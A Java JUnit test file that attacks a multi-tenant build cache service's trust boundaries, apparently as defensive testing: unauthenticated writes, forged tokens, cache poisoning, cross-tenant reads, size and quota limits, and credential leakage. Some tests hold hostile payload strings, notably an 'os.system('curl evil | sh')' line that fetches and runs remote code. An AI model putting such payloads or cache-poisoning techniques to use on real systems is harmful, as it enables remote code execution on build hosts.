package dev.kiln.cache;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.kiln.cache.TenantDirectory.IndexCredentials;
import dev.kiln.cache.client.CacheServiceClient;
import dev.kiln.cache.client.CacheServiceClientException;
import dev.kiln.events.Digest;
import dev.kiln.testkit.WheelBuilder;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.PrintStream;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Each test is an attack on the cache-service's trust boundaries (issue 8), named for the attack;
 * it fails if the attack works. Everything runs against a real service over HTTP, with a real
 * private index behind HTTP Basic auth.
 */
@org.junit.jupiter.api.Timeout(120)
class CacheServiceAttackTest {
  private static final String KEY = "5".repeat(64);
  private static final String INDEX_PASSWORD = "s3cr3t-Pa55w0rd";

  @TempDir Path root;
  @TempDir Path work;
  @TempDir Path emptyUpstream;
  private final List<AutoCloseable> open = new ArrayList<>();
  private final InMemoryTenantDirectory tenants = new InMemoryTenantDirectory();

  @AfterEach
  void stop() throws Exception {
    for (int i = open.size() - 1; i >= 0; i--) {
      open.get(i).close();
    }
  }

  @Test
  void anAnonymousClientCannotWriteTheStore() throws Exception {
    RunningCacheService worker = start(config -> config);
    RunningCacheService anonymous = worker.anonymous();
    byte[] payload =
        "sitecustomize.py: import os; os.system('steal')".getBytes(StandardCharsets.UTF_8);
    Digest digest = Digest.compute(payload);

    HttpResponse<String> putBlob = anonymous.put("/cas/" + digest.hex(), payload);
    HttpResponse<String> putAction =
        anonymous.put("/ac/" + KEY, "{\"blobs\":[\"" + digest + "\"]}");
    HttpResponse<String> readBlob = anonymous.get("/cas/" + digest.hex());

    for (HttpResponse<String> response : List.of(putBlob, putAction, readBlob)) {
      assertThat(response.statusCode()).isEqualTo(401);
      assertThat(response.headers().firstValue("WWW-Authenticate"))
          .hasValueSatisfying(value -> assertThat(value).startsWith("Bearer"));
      assertThat(response.headers().firstValue("Content-Type")).contains("application/json");
      assertThat(response.body()).contains("\"error\"").contains("farm token");
    }
    assertThat(anonymous.get("/health").statusCode()).isEqualTo(200);
    assertThat(worker.get("/cas/" + digest.hex()).statusCode()).isEqualTo(404);
    assertThat(worker.get("/ac/" + KEY).statusCode()).isEqualTo(404);
    assertStoreHoldsNoBlobs();
  }

  @Test
  void aTenantTokenIsNotAFarmCredential() throws Exception {
    RunningCacheService worker = start(config -> config);
    byte[] payload = "a tenant's own layer".getBytes(StandardCharsets.UTF_8);
    Digest digest = Digest.compute(payload);

    for (String token :
        List.of(
            "kiln_t_" + "A".repeat(43),
            "kiln_op_" + "B".repeat(43),
            RunningCacheService.newFarmToken(),
            CacheServiceConfig.sha256Hex(worker.farmToken))) {
      RunningCacheService impostor = worker.as("Authorization", "Bearer " + token);

      HttpResponse<String> putBlob = impostor.put("/cas/" + digest.hex(), payload);
      HttpResponse<String> putAction = impostor.put("/ac/" + KEY, "{}");

      assertThat(putBlob.statusCode()).as("PUT /cas with %s", token).isEqualTo(403);
      assertThat(putAction.statusCode()).as("PUT /ac with %s", token).isEqualTo(403);
      assertThat(putBlob.body()).contains("not this farm's token");
    }
    assertThat(worker.get("/ac/" + KEY).statusCode()).isEqualTo(404);
    assertStoreHoldsNoBlobs();
  }

  @Test
  void actionCachePoisoningWithoutTheFarmTokenFails() throws Exception {
    RunningCacheService worker = start(config -> config);
    Digest goodLayer = storePublic(worker, "the layer pip built from public wheels");
    String goodResult = "{\"blobs\":[\"" + goodLayer + "\"],\"layer\":\"" + goodLayer + "\"}";
    assertThat(worker.put("/ac/" + KEY, goodResult).statusCode()).isEqualTo(201);
    byte[] evil = "import os; os.system('curl evil | sh')".getBytes(StandardCharsets.UTF_8);
    Digest evilLayer = Digest.compute(evil);
    String poisoned = "{\"blobs\":[\"" + evilLayer + "\"],\"layer\":\"" + evilLayer + "\"}";

    for (RunningCacheService attacker :
        List.of(
            worker.anonymous(),
            worker.as("Authorization", "Bearer kiln_t_" + "C".repeat(43)),
            worker.as(
                "Authorization",
                "Basic "
                    + Base64.getEncoder()
                        .encodeToString(
                            ("worker:" + worker.farmToken).getBytes(StandardCharsets.UTF_8))))) {
      assertThat(attacker.put("/cas/" + evilLayer.hex(), evil).statusCode()).isIn(401, 403);
      assertThat(attacker.put("/ac/" + KEY, poisoned).statusCode()).isIn(401, 403);
    }

    assertThat(worker.get("/ac/" + KEY).body()).isEqualTo(goodResult);
    assertThat(worker.forTenant("victim").get("/ac/" + KEY).body()).isEqualTo(goodResult);
    assertThat(worker.get("/cas/" + evilLayer.hex()).statusCode()).isEqualTo(404);
  }

  @Test
  void aTenantCannotReadAnotherTenantsBlob() throws Exception {
    RunningCacheService acme = start(config -> config);
    RunningCacheService bob = acme.forTenant("bob");
    byte[] privateLayer = "acme's app layer".getBytes(StandardCharsets.UTF_8);
    Digest digest = Digest.compute(privateLayer);
    assertThat(acme.putForTenant("/cas/" + digest.hex(), privateLayer).statusCode()).isEqualTo(201);
    Digest absent = Digest.compute("never stored".getBytes(StandardCharsets.UTF_8));

    HttpResponse<String> asBob = bob.get("/cas/" + digest.hex());
    HttpResponse<String> absentAsBob = bob.get("/cas/" + absent.hex());

    assertThat(asBob.statusCode()).isEqualTo(404);
    assertThat(asBob.body()).isEqualTo(absentAsBob.body().replace(absent.hex(), digest.hex()));
    assertThat(bob.head("/cas/" + digest.hex()).statusCode()).isEqualTo(404);
    // Not through the public index's file route, nor bob's private one, by naming the hash.
    assertThat(bob.get("/files/" + digest.hex() + "/acme_app-1.0-py3-none-any.whl").statusCode())
        .isEqualTo(404);
    assertThat(
            bob.get("/tenants/bob/files/" + digest.hex() + "/acme_app-1.0-py3-none-any.whl")
                .statusCode())
        .isEqualTo(404);
    // Not with bob's scope added by re-uploading a hash he does not have the bytes for.
    assertThat(
            bob.putForTenant("/cas/" + digest.hex(), "guess".getBytes(StandardCharsets.UTF_8))
                .statusCode())
        .isEqualTo(400);
    assertThat(bob.get("/cas/" + digest.hex()).statusCode()).isEqualTo(404);
    // Nor without naming a tenant at all.
    assertThat(acme.as("X-Kiln-Tenant", null).get("/cas/" + digest.hex()).statusCode())
        .isEqualTo(400);
    assertThat(acme.getBytes("/cas/" + digest.hex()).body()).isEqualTo(privateLayer);
  }

  @Test
  void aTenantCannotReadAnotherTenantsActionResult() throws Exception {
    RunningCacheService acme = start(config -> config);
    RunningCacheService bob = acme.forTenant("bob");
    byte[] privateLayer = "layer built with acme's private index".getBytes(StandardCharsets.UTF_8);
    Digest layer = Digest.compute(privateLayer);
    acme.putForTenant("/cas/" + layer.hex(), privateLayer);
    String acmeResult = "{\"blobs\":[\"" + layer + "\"]}";
    assertThat(acme.putForTenant("/ac/" + KEY, acmeResult).statusCode()).isEqualTo(201);

    HttpResponse<String> asBob = bob.get("/ac/" + KEY);

    assertThat(asBob.statusCode()).isEqualTo(404);
    assertThat(asBob.body()).contains("no action result for " + KEY).doesNotContain(layer.hex());
    // Bob's own result under the same key lands in his namespace and replaces nothing of acme's.
    Digest bobLayer = storePublic(bob, "bob's layer");
    assertThat(bob.putForTenant("/ac/" + KEY, "{\"blobs\":[\"" + bobLayer + "\"]}").statusCode())
        .isEqualTo(201);
    assertThat(acme.get("/ac/" + KEY).body()).isEqualTo(acmeResult);
    // Nor can bob's worker make a result naming acme's blob, private or public.
    assertThat(bob.putForTenant("/ac/" + "6".repeat(64), acmeResult).statusCode()).isEqualTo(409);
    assertThat(bob.get("/ac/" + "6".repeat(64)).statusCode()).isEqualTo(404);
  }

  @Test
  void aPublicActionResultCannotNameAPrivateBlob() throws Exception {
    RunningCacheService acme = start(config -> config);
    byte[] privateLayer = "acme's private wheel".getBytes(StandardCharsets.UTF_8);
    Digest layer = Digest.compute(privateLayer);
    acme.putForTenant("/cas/" + layer.hex(), privateLayer);

    HttpResponse<String> put = acme.put("/ac/" + KEY, "{\"blobs\":[\"" + layer + "\"]}");

    assertThat(put.statusCode()).isEqualTo(409);
    assertThat(put.body())
        .contains("a public action result may only name public blobs")
        .contains(layer.toString())
        .contains("X-Kiln-Scope: tenant");
    assertThat(acme.get("/ac/" + KEY).statusCode()).isEqualTo(404);
    assertThat(acme.forTenant("bob").get("/ac/" + KEY).statusCode()).isEqualTo(404);
    assertThat(acme.forTenant("bob").get("/cas/" + layer.hex()).statusCode()).isEqualTo(404);
  }

  @Test
  void aTenantCannotUseAnotherTenantsPrivateIndex() throws Exception {
    Path wheels = Files.createDirectories(work.resolve("private-wheels"));
    Path wheel =
        WheelBuilder.wheel("acme-secret", "1.0")
            .module("acme_secret/__init__.py", "K = 1\n")
            .writeTo(wheels);
    Digest sha = Digest.compute(wheel);
    BasicAuthIndexServer index = privateIndex(wheels);
    tenants.putIndex(
        "acme", "private", new IndexCredentials(index.indexUrl(), "acme", INDEX_PASSWORD));
    RunningCacheService acme = start(config -> config.withTenantDirectory(tenants));
    RunningCacheService bob = acme.forTenant("bob");
    String page = "/tenants/acme/indexes/private/simple/acme-secret/";
    String file = "/tenants/acme/files/" + sha.hex() + "/" + wheel.getFileName();

    HttpResponse<String> bobsPage = bob.get(page);
    HttpResponse<String> bobsFile = bob.get(file);
    HttpResponse<String> bobsList = bob.get("/tenants/acme/indexes/private/simple/");

    assertThat(bobsPage.statusCode()).isEqualTo(403);
    assertThat(bobsPage.body()).contains("acting for tenant 'bob'").contains("tenant 'acme'");
    assertThat(bobsFile.statusCode()).isEqualTo(403);
    assertThat(bobsList.statusCode()).isEqualTo(403);
    assertThat(bob.get("/tenants/bob/indexes/private/simple/acme-secret/").statusCode())
        .isEqualTo(404);
    assertThat(index.requests()).as("nothing of bob's reached acme's index").isEmpty();

    // acme uses it; the file is then stored for acme only.
    assertThat(acme.get(page).statusCode()).isEqualTo(200);
    assertThat(acme.getBytes(file).body()).isEqualTo(Files.readAllBytes(wheel));
    assertThat(bob.get("/cas/" + sha.hex()).statusCode()).isEqualTo(404);
    assertThat(bob.get("/files/" + sha.hex() + "/" + wheel.getFileName()).statusCode())
        .isEqualTo(404);
    assertThat(bob.get("/tenants/bob/files/" + sha.hex() + "/" + wheel.getFileName()).statusCode())
        .isEqualTo(404);
    assertThat(acme.get("/cas/" + sha.hex()).statusCode()).isEqualTo(200);
  }

  @Test
  void anOversizedBlobIsRefusedAndLeavesNothing() throws Exception {
    RunningCacheService worker = start(config -> config.withMaxBlobBytes(1024));
    byte[] big = new byte[4096];
    Digest digest = Digest.compute(big);

    HttpResponse<String> declared = worker.put("/cas/" + digest.hex(), big);

    assertThat(declared.statusCode()).isEqualTo(413);
    assertThat(declared.body())
        .contains("4096 bytes")
        .contains("1024 bytes")
        .contains("maxBlobBytes");

    // Chunked, so the service learns the size only while reading: cut off at the limit.
    String chunkedAnswer = rawChunkedPut(worker, digest, big);
    assertThat(chunkedAnswer).startsWith("HTTP/1.1 413").contains("more than 1024 bytes");

    // Through the client, which waits for "100 Continue": refused before the body is sent.
    Path file = Files.write(work.resolve("big.tar"), big);
    CacheServiceClient client =
        new CacheServiceClient(worker.baseUrl(), worker.farmToken).forTenant("acme");
    assertThatThrownBy(() -> client.putBlob(file, CacheServiceClient.Scope.PUBLIC))
        .isInstanceOfSatisfying(
            CacheServiceClientException.class,
            e -> {
              assertThat(e.status()).isEqualTo(413);
              assertThat(e.getMessage()).contains("maxBlobBytes");
            });

    assertThat(worker.get("/cas/" + digest.hex()).statusCode()).isEqualTo(404);
    assertStoreHoldsNoBlobs();
    try (Stream<Path> temps = Files.list(root.resolve("cas/v1/tmp"))) {
      assertThat(temps).isEmpty();
    }
    // The service still works after cutting those connections.
    assertThat(storePublic(worker, "small")).isNotNull();
  }

  @Test
  void theStoreEvictsOnlyWhatNoActionResultNames() throws Exception {
    RunningCacheService worker = start(config -> config.withMaxStoreBytes(3000));
    Digest named = storePublic(worker, bytesOf('a', 1000));
    assertThat(worker.put("/ac/" + KEY, "{\"blobs\":[\"" + named + "\"]}").statusCode())
        .isEqualTo(201);
    Digest usedRecently = storePublic(worker, bytesOf('b', 1000));
    Digest leastRecentlyUsed = storePublic(worker, bytesOf('c', 1000));
    assertThat(worker.get("/cas/" + usedRecently.hex()).statusCode()).isEqualTo(200);

    Digest incoming = storePublic(worker, bytesOf('d', 1000));

    assertThat(worker.get("/cas/" + leastRecentlyUsed.hex()).statusCode()).isEqualTo(404);
    assertThat(worker.get("/cas/" + named.hex()).statusCode()).isEqualTo(200);
    assertThat(worker.get("/cas/" + usedRecently.hex()).statusCode()).isEqualTo(200);
    assertThat(worker.get("/cas/" + incoming.hex()).statusCode()).isEqualTo(200);
    assertThat(worker.get("/ac/" + KEY).statusCode()).isEqualTo(200);

    // More than every unnamed blob together: refused, and nothing is evicted for it.
    byte[] huge = bytesOf('e', 2500);
    HttpResponse<String> full = worker.put("/cas/" + Digest.compute(huge).hex(), huge);
    assertThat(full.statusCode()).isEqualTo(507);
    assertThat(full.body())
        .contains("the store is full")
        .contains("maxStoreBytes")
        .contains("3000");
    assertThat(worker.get("/cas/" + usedRecently.hex()).statusCode()).isEqualTo(200);
    assertThat(worker.get("/cas/" + incoming.hex()).statusCode()).isEqualTo(200);

    // The protection survives a restart (it is rebuilt from the stored results).
    worker.close();
    open.remove(worker);
    RunningCacheService restarted = start(config -> config.withMaxStoreBytes(3000));
    storePublic(restarted, bytesOf('f', 1000));
    storePublic(restarted, bytesOf('g', 1000));
    assertThat(restarted.get("/cas/" + named.hex()).statusCode()).isEqualTo(200);
    assertThat(restarted.get("/ac/" + KEY).statusCode()).isEqualTo(200);
  }

  @Test
  void aTenantOverItsStoreQuotaIsRefused() throws Exception {
    tenants.setStoreQuota("acme", 1500);
    RunningCacheService acme = start(config -> config.withTenantDirectory(tenants));
    byte[] first = bytesOf('x', 1000);
    byte[] second = bytesOf('y', 1000);
    assertThat(acme.putForTenant("/cas/" + Digest.compute(first).hex(), first).statusCode())
        .isEqualTo(201);

    HttpResponse<String> over = acme.putForTenant("/cas/" + Digest.compute(second).hex(), second);

    assertThat(over.statusCode()).isEqualTo(507);
    assertThat(over.body())
        .contains("tenant 'acme' is over its store quota")
        .contains("1500 bytes")
        .contains("quotas.storeBytes")
        .contains("kiln tenants")
        .contains("PATCH /v1/tenants/acme");
    assertThat(acme.get("/cas/" + Digest.compute(second).hex()).statusCode()).isEqualTo(404);
    try (Stream<Path> temps = Files.list(root.resolve("cas/v1/tmp"))) {
      assertThat(temps).isEmpty();
    }
    // Public blobs are shared and charged to no tenant; other tenants have their own quota.
    assertThat(acme.put("/cas/" + Digest.compute(second).hex(), second).statusCode())
        .isEqualTo(201);
    assertThat(
            acme.forTenant("bob")
                .putForTenant(
                    "/cas/" + Digest.compute(bytesOf('z', 1000)).hex(), bytesOf('z', 1000))
                .statusCode())
        .isEqualTo(201);
    // The client surfaces the service's explanation.
    Path third = Files.write(work.resolve("third.tar"), bytesOf('w', 1000));
    CacheServiceClient client =
        new CacheServiceClient(acme.baseUrl(), acme.farmToken).forTenant("acme");
    assertThatThrownBy(() -> client.putBlob(third, CacheServiceClient.Scope.TENANT))
        .isInstanceOfSatisfying(
            CacheServiceClientException.class,
            e -> {
              assertThat(e.status()).isEqualTo(507);
              assertThat(e.getMessage()).contains("over its store quota").contains("kiln tenants");
            });
  }

  @Test
  void indexCredentialsNeverAppearInAnswers() throws Exception {
    Path wheels = Files.createDirectories(work.resolve("private-wheels"));
    Path wheel =
        WheelBuilder.wheel("acme-secret", "1.0")
            .module("acme_secret/__init__.py", "K = 1\n")
            .writeTo(wheels);
    BasicAuthIndexServer index = privateIndex(wheels);
    BasicAuthIndexServer elsewhere =
        privateIndex(Files.createDirectories(work.resolve("elsewhere")));
    int closedPort;
    try (ServerSocket socket = new ServerSocket(0)) {
      closedPort = socket.getLocalPort();
    }
    String inUrl = index.indexUrl().replace("http://", "http://acme:" + INDEX_PASSWORD + "@");
    tenants
        .putIndex("acme", "private", new IndexCredentials(index.indexUrl(), "acme", INDEX_PASSWORD))
        .putIndex("acme", "in-url", new IndexCredentials(inUrl, null, null))
        .putIndex(
            "acme", "wrong", new IndexCredentials(index.indexUrl(), "acme", INDEX_PASSWORD + "x"))
        .putIndex(
            "acme",
            "down",
            new IndexCredentials(
                "http://acme:" + INDEX_PASSWORD + "@127.0.0.1:" + closedPort + "/simple/",
                null,
                null))
        .putIndex("acme", "local", new IndexCredentials("file:///etc/", "acme", INDEX_PASSWORD));
    // A page of the private index linking a file on another host: the credentials stay home.
    Path other = WheelBuilder.wheel("acme-linked", "1.0").writeTo(work);
    index.servePage(
        "/simple/acme-linked/",
        ("<a href=\""
                + elsewhere.indexUrl().replace("/simple/", "/files/")
                + "x.whl#sha256="
                + Digest.compute(other).hex()
                + "\">acme_linked-1.0-py3-none-any.whl</a>")
            .getBytes(StandardCharsets.UTF_8));
    RunningCacheService acme = start(config -> config.withTenantDirectory(tenants));

    List<HttpResponse<String>> answers = new ArrayList<>();
    ByteArrayOutputStream logs = new ByteArrayOutputStream();
    PrintStream originalErr = System.err;
    System.setErr(new PrintStream(new TeeStream(originalErr, logs), true));
    try {
      for (String name : List.of("private", "in-url", "wrong", "down", "local")) {
        answers.add(acme.get("/tenants/acme/indexes/" + name + "/simple/"));
        answers.add(acme.get("/tenants/acme/indexes/" + name + "/simple/acme-secret/"));
        answers.add(
            acme.get(
                "/tenants/acme/indexes/" + name + "/simple/acme-secret/",
                "Accept",
                "application/vnd.pypi.simple.v1+json"));
        answers.add(acme.get("/tenants/acme/indexes/" + name + "/simple/no-such-project/"));
      }
      answers.add(acme.get("/tenants/acme/indexes/private/simple/acme-linked/"));
      answers.add(
          acme.get(
              "/tenants/acme/files/"
                  + Digest.compute(other).hex()
                  + "/acme_linked-1.0-py3-none-any.whl"));
      answers.add(
          acme.get(
              "/tenants/acme/files/" + Digest.compute(wheel).hex() + "/" + wheel.getFileName()));
      answers.add(acme.get("/health"));
    } finally {
      System.setErr(originalErr);
    }

    String basic =
        Base64.getEncoder()
            .encodeToString(("acme:" + INDEX_PASSWORD).getBytes(StandardCharsets.UTF_8));
    assertThat(answers.get(1).statusCode()).isEqualTo(200);
    assertThat(answers.get(1).body())
        .contains("/tenants/acme/files/" + Digest.compute(wheel).hex());
    assertThat(answers.get(5).statusCode()).as("credentials in the URL work too").isEqualTo(200);
    assertThat(answers.get(9).statusCode()).isEqualTo(502);
    assertThat(answers.get(9).body()).contains("refused the configured credentials");
    assertThat(answers.get(13).statusCode()).isEqualTo(502);
    assertThat(answers.get(17).statusCode()).isEqualTo(502);
    assertThat(answers.get(17).body()).contains("only http:// and https://");
    for (HttpResponse<String> answer : answers) {
      assertThat(answer.body() + answer.headers().map())
          .as("%s", answer.uri())
          .doesNotContain(INDEX_PASSWORD)
          .doesNotContain(basic);
    }
    assertThat(logs.toString(StandardCharsets.UTF_8))
        .contains("dev.kiln.cache") // the capture worked
        .doesNotContain(INDEX_PASSWORD)
        .doesNotContain(basic);
    assertThat(elsewhere.requests())
        .isNotEmpty()
        .allSatisfy(seen -> assertThat(seen.authorization()).isNull());
  }

  // ---- helpers

  private RunningCacheService start(UnaryOperator<CacheServiceConfig> configure) {
    RunningCacheService service =
        RunningCacheService.start(
            configure.apply(CacheServiceConfig.of(root, emptyUpstream.toUri().toString())));
    open.add(service);
    return service;
  }

  private BasicAuthIndexServer privateIndex(Path wheels) throws Exception {
    BasicAuthIndexServer index = BasicAuthIndexServer.start(wheels, "acme", INDEX_PASSWORD);
    open.add(index);
    return index;
  }

  private static Digest storePublic(RunningCacheService service, String text) {
    return storePublic(service, text.getBytes(StandardCharsets.UTF_8));
  }

  private static Digest storePublic(RunningCacheService service, byte[] content) {
    Digest digest = Digest.compute(content);
    assertThat(service.put("/cas/" + digest.hex(), content).statusCode()).isIn(200, 201);
    return digest;
  }

  private static byte[] bytesOf(char c, int length) {
    return String.valueOf(c).repeat(length).getBytes(StandardCharsets.US_ASCII);
  }

  private void assertStoreHoldsNoBlobs() throws Exception {
    try (Stream<Path> entries = Files.list(root.resolve("cas/v1"))) {
      assertThat(entries).extracting(path -> path.getFileName().toString()).containsExactly("tmp");
    }
  }

  /** A chunked upload over a raw socket; the answer, or "" when the service cut the connection. */
  private static String rawChunkedPut(RunningCacheService service, Digest digest, byte[] body)
      throws Exception {
    java.net.URI base = java.net.URI.create(service.baseUrl());
    try (Socket socket = new Socket(base.getHost(), base.getPort())) {
      socket.setSoTimeout(10_000);
      OutputStream out = socket.getOutputStream();
      StringBuilder head =
          new StringBuilder("PUT /cas/" + digest.hex() + " HTTP/1.1\r\n")
              .append("Host: ")
              .append(base.getHost())
              .append("\r\n")
              .append("Authorization: Bearer ")
              .append(service.farmToken)
              .append("\r\n")
              .append("X-Kiln-Scope: public\r\n")
              .append("Transfer-Encoding: chunked\r\n\r\n");
      try {
        out.write(head.toString().getBytes(StandardCharsets.US_ASCII));
        out.write((Integer.toHexString(body.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
        out.write(body);
        out.write("\r\n0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        out.flush();
      } catch (java.io.IOException cut) {
        // The service may close before the whole body is written: that is the point.
      }
      InputStream in = socket.getInputStream();
      try {
        return new String(in.readAllBytes(), StandardCharsets.UTF_8);
      } catch (java.io.IOException reset) {
        return "";
      }
    }
  }

  /** Copies System.err into a buffer while still printing it. */
  private static final class TeeStream extends OutputStream {
    private final OutputStream first;
    private final OutputStream second;

    TeeStream(OutputStream first, OutputStream second) {
      this.first = first;
      this.second = second;
    }

    @Override
    public void write(int b) throws java.io.IOException {
      first.write(b);
      second.write(b);
    }

    @Override
    public void write(byte[] b, int off, int len) throws java.io.IOException {
      first.write(b, off, len);
      second.write(b, off, len);
    }
  }
}
